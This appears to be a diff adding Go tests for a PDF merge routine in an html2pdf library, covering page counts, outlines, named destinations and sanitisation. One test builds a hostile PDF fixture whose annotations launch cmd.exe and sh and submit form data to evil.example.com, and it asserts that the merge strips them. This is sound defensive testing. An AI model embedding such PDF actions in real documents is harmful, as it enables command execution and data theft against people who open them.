@@ -0,0 +1,99 @@
+package pdf_test
+
+import (
+	"bytes"
+	"testing"
+
+	"github.com/kolzxx/html2pdf/internal/pdf"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestMerge(t *testing.T) {
+	t.Parallel()
+
+	t.Run("TestMergeParts", func(t *testing.T) {
+		first, err := pdf.Parse(samplePdf(2))
+		assert.NoError(t, err)
+		second, err := pdf.Parse(compressedPdf())
+		assert.NoError(t, err)
+
+		var out bytes.Buffer
+		err = pdf.Merge(&out, pdf.Part{Document: first, Title: "Cover"}, pdf.Part{Document: second, Title: "Annexe é"})
+		assert.NoError(t, err)
+
+		merged, err := pdf.Parse(out.Bytes())
+		assert.NoError(t, err)
+		assert.Equal(t, 3, merged.NumPages())
+		assert.Contains(t, out.String(), "/Title (Cover)")
+		assert.Contains(t, out.String(), "/Title (\xfe\xff\x00A")
+		assert.Contains(t, out.String(), "/Count 2")
+		assert.Contains(t, out.String(), "(Page 2) Tj")
+		assert.Contains(t, out.String(), "/BaseFont /Helvetica")
+	})
+
+	t.Run("TestMergeStripsJavaScript", func(t *testing.T) {
+		doc, err := pdf.Parse(samplePdf(1))
+		assert.NoError(t, err)
+
+		var out bytes.Buffer
+		assert.NoError(t, pdf.Merge(&out, pdf.Part{Document: doc}))
+
+		assert.NotContains(t, out.String(), "JavaScript")
+		assert.NotContains(t, out.String(), "/AA")
+		assert.NotContains(t, out.String(), "/Outlines")
+	})
+
+	t.Run("TestMergeStripsUnsafeActions", func(t *testing.T) {
+		doc, err := pdf.Parse(buildPdf("/Root 1 0 R",
+			"<< /Type /Catalog /Pages 2 0 R >>",
+			"<< /Type /Pages /Kids [3 0 R] /Count 1 /MediaBox [0 0 612 792] >>",
+			"<< /Type /Page /Parent 2 0 R /Annots [4 0 R 5 0 R 6 0 R 7 0 R] >>",
+			"<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>",
+			"<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F (https://evil.example.com/) >> >>",
+			"<< /Type /Annot /Subtype /Widget /A << /S /ImportData /F (data.fdf) >> >>",
+			"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://example.com/) /Next << /S /Launch /F (sh) >> >> >>"))
+		assert.NoError(t, err)
+
+		var out bytes.Buffer
+		assert.NoError(t, pdf.Merge(&out, pdf.Part{Document: doc}))
+
+		assert.NotContains(t, out.String(), "/Launch")
+		assert.NotContains(t, out.String(), "/SubmitForm")
+		assert.NotContains(t, out.String(), "/ImportData")
+		assert.Contains(t, out.String(), "/URI (https://example.com/)")
+		_, err = pdf.Parse(out.Bytes())
+		assert.NoError(t, err)
+	})
+
+	t.Run("TestMergePages", func(t *testing.T) {
+		doc, err := pdf.Parse(buildPdf("/Root 1 0 R",
+			"<< /Type /Catalog /Pages 2 0 R /Dests << /intro [3 0 R /Fit] /annex [4 0 R /Fit] >> >>",
+			"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 /MediaBox [0 0 612 792] >>",
+			"<< /Type /Page /Parent 2 0 R >>",
+			"<< /Type /Page /Parent 2 0 R >>"))
+		assert.NoError(t, err)
+
+		var out bytes.Buffer
+		assert.NoError(t, pdf.Merge(&out, pdf.Part{Document: doc, Pages: []int{1}}))
+
+		merged, err := pdf.Parse(out.Bytes())
+		assert.NoError(t, err)
+		assert.Equal(t, 1, merged.NumPages())
+		assert.Contains(t, out.String(), "/Dests <</annex [3 0 R /Fit]")
+
+		err = pdf.Merge(&out, pdf.Part{Document: doc, Pages: []int{2}})
+		assert.ErrorIs(t, err, pdf.ErrInvalid)
+	})
+
+	t.Run("TestMergeSameDocument", func(t *testing.T) {
+		doc, err := pdf.Parse(samplePdf(1))
+		assert.NoError(t, err)
+
+		var out bytes.Buffer
+		assert.NoError(t, pdf.Merge(&out, pdf.Part{Document: doc}, pdf.Part{Document: doc}))
+
+		merged, err := pdf.Parse(out.Bytes())
+		assert.NoError(t, err)
+		assert.Equal(t, 2, merged.NumPages())
+	})
+}